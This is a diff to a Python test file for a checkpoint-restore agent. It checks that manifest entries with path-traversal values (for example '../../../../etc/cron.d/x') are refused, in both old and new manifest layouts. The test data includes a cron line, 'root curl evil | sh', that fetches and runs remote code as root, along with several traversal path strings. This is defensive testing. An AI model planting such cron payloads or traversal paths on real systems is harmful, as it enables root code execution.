@@ -259,19 +259,27 @@ def test_verify_checks_every_size_against_the_listing(bucket, tmp_path):
 # ---- restore never trusts a manifest it cannot check (issue 13 #14) ------------------------------------
 
 
-def _plant_step(bucket, step: int, files: list, blobs: dict[str, bytes]) -> None:
-    """A step as an attacker (or a corrupted upload) could leave it: these objects, this manifest, LATEST."""
+def _plant_step(bucket, step: int, files: list, blobs: dict[str, bytes], layout: str = "parts") -> None:
+    """A step as an attacker (or a corrupted upload) could leave it: these objects, this manifest, LATEST. Laid
+    out as the agent commits it (`parts`: node 0's objects under node-0/), or as a checkpoint from before parts
+    (`flat`: objects at the step, a top-level "files" list), which restore still reads."""
     for name, data in blobs.items():
-        bucket.put_bytes(key(step, name), data)
-    bucket.put_bytes(key(step, "MANIFEST.json"), json.dumps({"step": step, "files": files}).encode())
+        bucket.put_bytes(key(step, name) if layout == "parts" else f"{PREFIX}/step-{step:08d}/{name}", data)
+    doc = {"step": step, "files": files}
+    if layout == "parts":
+        doc = {"step": step, "nodes": 1, "parts": [{"node": 0, "files": files}]}
+    bucket.put_bytes(key(step, "MANIFEST.json"), json.dumps(doc).encode())
     bucket.put_bytes(f"{PREFIX}/LATEST", f"step-{step:08d}".encode())
 
 
+@pytest.mark.parametrize("layout", ["parts", "flat"])
 @pytest.mark.parametrize(
     "path",
     ["../../../../etc/cron.d/x", "/etc/cron.d/x", "a/../../x", "./x", "a//b", "a\\..\\x", "x\n", ""],
 )
-def test_a_manifest_path_that_leaves_the_destination_is_refused_and_restore_falls_back(bucket, tmp_path, path):
+def test_a_manifest_path_that_leaves_the_destination_is_refused_and_restore_falls_back(
+    bucket, tmp_path, path, layout, capfd
+):
     """An entry like ../../../../etc/cron.d/x would be written outside the destination, as root at boot, even
     with a wrong hash (the file lands before its hash is compared). Restore refuses the whole step and takes
     the previous good one; nothing is written outside `dest`."""
@@ -279,12 +287,14 @@ def test_a_manifest_path_that_leaves_the_destination_is_refused_and_restore_fall
     evil = b"* * * * * root curl evil | sh\n"
     entry = {"path": path, "size": len(evil), "sha256": hashlib.sha256(evil).hexdigest()}
     # Stored where a naive join would read it from, so only the path check stands between it and the disk.
-    _plant_step(bucket, 9, [entry], {path: evil} if path else {})
+    _plant_step(bucket, 9, [entry], {path: evil} if path else {}, layout)
     root = tmp_path / "root"
     dest = root / "a" / "b" / "c" / "d" / "node"
     dest.mkdir(parents=True)
     before = {p for p in tmp_path.rglob("*")}
     assert agent.restore(bucket, PREFIX, str(dest)) == 5
+    # the planted step was refused for its path, not because it did not verify (that would prove nothing)
+    assert not any("manifest_mismatch" in line for line in capfd.readouterr().err.splitlines())
     written = {p for p in tmp_path.rglob("*")} - before
     assert written and all(dest in p.parents for p in written), sorted(map(str, written - {dest}))
     assert not any(p.read_bytes() == evil for p in written if p.is_file())
